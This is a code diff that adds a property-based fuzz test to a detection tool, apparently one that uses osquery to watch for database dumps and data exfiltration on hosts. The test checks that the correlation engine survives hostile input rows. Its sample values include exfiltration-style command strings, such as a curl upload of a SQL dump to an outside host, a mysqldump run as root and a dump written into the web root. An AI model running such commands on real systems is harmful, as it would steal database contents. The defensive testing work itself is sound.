@@ -238,3 +238,47 @@ def test_every_reason_label_is_registered() -> None:
     for label in f.reasons:
         code, delta = label.split(":")
         assert code in R.REASONS and int(delta) == int(delta)
+
+
+from hypothesis import given, settings, strategies as st  # noqa: E402
+
+from osq_dbwatch.correlate.cli import _line  # noqa: E402
+from osq_dbwatch.correlate.state import _dumps  # noqa: E402
+
+_values = st.one_of(
+    st.sampled_from(["", "0", "-1", "4294967295", "1004", "mallory", "www-data", "/usr/bin/psql", "/tmp/x.sql",
+                     "psql -d x -c \\copy t to '/tmp/x.csv'", "mysqldump -u root -pX db", "curl -T /tmp/x.sql https://e.example",
+                     "tar czf /tmp/a.tgz /tmp/x.sql", "93.184.216.34", "10.0.0.1", "::1", "sh -c mysql > /var/www/a.sql",
+                     "/usr/sbin/apache2", "-bash", "CREATED", "DELETED", "1793671805", "99999999999999999999", "nan", "1e300"]),
+    st.integers(min_value=-2**63, max_value=2**64),
+    st.text(max_size=30),
+)
+_columns = st.dictionaries(
+    st.sampled_from(["pid", "parent", "path", "cmdline", "cwd", "uid", "auid", "username", "login_user", "parent_path",
+                     "parent_cmdline", "time", "target_path", "action", "owner", "size", "inode", "remote_address",
+                     "remote_port", "success", "user", "command", "file", "file_mtime", "start_time", "ancestry",
+                     "ancestry_paths", "tty", "interactive", "systemd_unit", "groupname", "output_path", "intent"]),
+    _values, max_size=14,
+)
+_queries = st.sampled_from(["db_cli_exec", "transfer_exec", "dump_file_events", "db_egress", "admin_accounts",
+                            "db_cli_sessions", "dump_like_files", "db_client_history"])
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.tuples(_queries, _columns, st.sampled_from(["added", "snapshot"]), st.integers(0, 3)), max_size=12))
+def test_engine_never_crashes_on_hostile_rows(items: list) -> None:
+    e = engine()
+    state = HostState("h")
+    for query, columns, action, counter in items:
+        line = json.dumps({"name": "pack_dbwatch_" + query, "hostIdentifier": "h", "unixTime": 1793671805,
+                           "counter": counter, "columns": columns, "action": action}).encode()
+        try:
+            rows = parse_line(line).rows
+        except Exception as exc:  # only BadLine is allowed out of the parser
+            assert type(exc).__name__ == "BadLine"
+            continue
+        state, findings = e.process(state, rows)
+        for f in findings:
+            _line(to_ocsf(f))  # what the CLI writes (orjson: 64-bit integers only)
+            _line(to_ecs(f))
+    HostState.from_json(json.loads(_dumps(state.to_json())))
